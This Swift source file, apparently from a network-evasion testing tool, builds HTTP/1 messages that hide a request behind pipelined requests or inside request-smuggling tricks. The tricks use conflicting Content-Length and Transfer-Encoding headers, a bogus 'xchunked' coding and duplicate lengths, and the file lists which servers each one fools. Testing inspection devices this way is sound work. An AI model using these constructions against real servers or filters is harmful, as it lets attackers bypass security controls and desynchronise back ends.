import Traffic

/// HTTP/1: other requests around the request on one connection.
extension Evasion {
    private static let ahead = Array("GET / HTTP/1.1\r\nHost: a\r\n\r\n".utf8)
    private static let servers = "nginx, Apache, Tomcat, Go"

    static let sequences: [Evasion] = [
        spelt("after-benign", "behind a request that has been answered", receivers: "nginx, Apache, Tomcat, PHP, Go") {
            behind([.bytes(ahead), .answer(Array("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok".utf8))], ahead.count, $0.bytes)
        },
        spelt("pipelined", "in one segment with the request before", receivers: servers) { text in
            Message([.bytes(ahead + text.bytes)], essential: ahead.count..<ahead.count + text.bytes.count)
        },
        spelt("pipelined-unanswered", "behind ten requests that wait for their answers", receivers: servers) { text in
            behind([Message.Part](repeating: .bytes(ahead), count: 10), 10 * ahead.count, text.bytes)
        },
        flooded,
        spelt("pipelined-body", "in one segment with a request that has a body", receivers: servers) { text in
            let first = Array("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\na=b".utf8)
            return Message([.bytes(first + text.bytes)], essential: first.count..<first.count + text.bytes.count)
        },
        // Request smuggling: two lengths, and receivers that go by one or the other (RFC 9112, section 6.3).
        smuggled("smuggled-behind-chunks", "behind the last chunk of a request whose Content-Length includes it", receivers: "Tomcat, Apache") {
            hidden in
            ("Content-Length: \(5 + hidden)\r\nTransfer-Encoding: chunked", "0\r\n\r\n", "")
        },
        smuggled("smuggled-in-chunk", "in a chunk of a request whose Content-Length ends before it", receivers: "Python's http.server") { hidden in
            let line = String(hidden, radix: 16) + "\r\n"
            return ("Content-Length: \(line.utf8.count)\r\nTransfer-Encoding: chunked", line, "\r\n0\r\n\r\n")
        },
        smuggled("smuggled-unknown-coding", "as before, with a coding that has no meaning", receivers: "Python's http.server") { hidden in
            let line = String(hidden, radix: 16) + "\r\n"
            return ("Content-Length: \(line.utf8.count)\r\nTransfer-Encoding: xchunked", line, "\r\n0\r\n\r\n")
        },
        smuggled("smuggled-first-length", "behind the body by the first of two lengths", receivers: "Python's http.server") { hidden in
            ("Content-Length: 3\r\nContent-Length: \(3 + hidden)", "a=b", "")
        },
        smuggled("smuggled-last-length", "behind the body by the second of two lengths", receivers: "old Node.js and PHP servers") { hidden in
            ("Content-Length: \(3 + hidden)\r\nContent-Length: 3", "a=b", "")
        },
    ]

    /// Its first byte comes last, so that all of it is handed on at once.
    private static let flooded: Evasion = {
        let message = spelt("pipelined-ahead", "ahead of 1,000 requests that wait for a byte of the first one", receivers: servers) { text in
            let rest = [[UInt8]](repeating: Array("GET / HTTP/1.1\r\nHost: a\r\n\r\n".utf8), count: 1000).joined()
            return Message([.bytes(text.bytes + rest)], essential: 0..<text.bytes.count)
        }
        return Evasion(
            name: message.name, layer: .http, summary: message.summary, receivers: message.receivers, requests: message.requests,
            demand: .both, message: message.message,
            script: { ClientScript($0) { bytes, offset in
                ScriptedSegment.segments(Array(bytes.dropFirst()), at: offset + 1, size: 1400) + [ScriptedSegment(at: offset, Array(bytes.prefix(1)))]
            } })
    }()

    private static func behind(_ parts: [Message.Part], _ count: Int, _ bytes: [UInt8]) -> Message {
        Message(parts + [.bytes(bytes)], essential: count..<count + bytes.count)
    }

    /// - Parameter outer: from the hidden request's length the outer one's headers, and what stands before and after it.
    private static func smuggled(
        _ name: String, _ summary: String, receivers: String,
        _ outer: @escaping @Sendable (Int) -> (headers: String, before: String, after: String)
    ) -> Evasion {
        spelt(name, summary, receivers: receivers) { text in
            let parts = outer(text.bytes.count)
            let before = Array("POST / HTTP/1.1\r\nHost: a\r\n\(parts.headers)\r\n\r\n\(parts.before)".utf8)
            return Message(
                [.bytes(before + text.bytes + Array(parts.after.utf8))], essential: before.count..<before.count + text.bytes.count)
        }
    }
}
